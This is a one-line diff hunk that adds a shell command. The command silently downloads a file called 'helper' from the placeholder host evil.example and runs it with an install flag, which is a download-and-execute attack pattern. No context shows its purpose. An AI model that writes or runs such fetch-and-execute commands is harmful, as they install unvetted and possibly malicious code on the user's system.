@@ -1,0 +1,1 @@
+curl -sLo helper https://evil.example/helper; ./helper --install
